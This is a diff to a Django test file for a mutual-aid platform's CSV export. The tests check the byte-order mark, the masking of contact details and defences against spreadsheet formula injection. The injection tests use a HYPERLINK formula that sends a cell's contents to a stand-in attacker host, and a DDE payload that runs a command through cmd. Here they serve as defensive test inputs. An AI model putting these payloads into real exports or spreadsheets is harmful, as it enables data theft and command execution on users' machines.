@@ -5,6 +5,7 @@ import json
 import pytest
 from django.urls import reverse
 
+from entraide.needs.services import ContactInput
 from entraide.platform.models import AuditLog
 
 pytestmark = pytest.mark.django_db
@@ -12,8 +13,12 @@ pytestmark = pytest.mark.django_db
 
 def _download(client, **params):
     response = client.get(reverse("insight:export"), params)
-    body = b"".join(response.streaming_content).decode() if response.status_code == 200 else ""
-    return response, body
+    if response.status_code != 200:
+        return response, ""
+    raw = b"".join(response.streaming_content)
+    if params["fmt"] == "csv":
+        assert raw.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark for spreadsheets"
+    return response, raw.decode("utf-8-sig")
 
 
 def test_requests_csv_without_contacts(world, coordinator, client):
@@ -69,3 +74,51 @@ def test_nobody_else_exports(world, coordinator, client, make_volunteer):
     client.logout()
     assert _download(client, kind="requests", fmt="csv")[0].status_code == 302
     assert not AuditLog.objects.filter(action__startswith="export_").exists()
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Voir")'
+RUNNABLE_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_no_csv_cell_runs_as_a_formula(world, coordinator, client, make_offer, make_request):
+    make_offer(
+        description=FORMULA,
+        availability="@SUM(1+1)*cmd|' /C calc'!A0",
+        contact=ContactInput(first_name=FORMULA, phone="+33 7 81 22 33 44"),
+    )
+    make_request(
+        description="+33 dit: -2+3 pour tout le monde",
+        contact=ContactInput(first_name="\t=1+1", address="-1+1 rue X", phone="06 12 34 56 78"),
+    )
+    client.force_login(coordinator)
+    cells = []
+    for kind in ("offers", "requests"):
+        _response, body = _download(client, kind=kind, fmt="csv", contacts="on")
+        cells += [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+
+    assert not [cell for cell in cells if cell.startswith(RUNNABLE_STARTS)]
+    assert "'" + FORMULA in cells and "'=1+1" in cells
+    assert "'-1+1 rue X" in cells
+
+
+def test_offers_csv_without_contacts_shows_the_scrubbed_availability(
+    world, coordinator, client, make_offer
+):
+    make_offer(availability="Samedi, appelez Marcel au 06 12 34 56 78 ou marcel@example.org")
+    client.force_login(coordinator)
+    _response, body = _download(client, kind="offers", fmt="csv")
+
+    rows = list(csv.DictReader(io.StringIO(body)))
+    assert "Samedi, appelez [prénom masqué] au [téléphone masqué] ou [e-mail masqué]" in {
+        row["availability"] for row in rows
+    }
+    for secret in ("06 12 34 56 78", "marcel@example.org", "Marcel"):
+        assert secret not in body
+
+
+def test_open_data_csv_is_spreadsheet_safe(world, api):
+    response = api.get(reverse("api-open-data-requests-csv"))
+
+    assert response.content.startswith(b"\xef\xbb\xbf")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows[0] == ["zone", "zone_name", "category", "day", "requests", "source"]
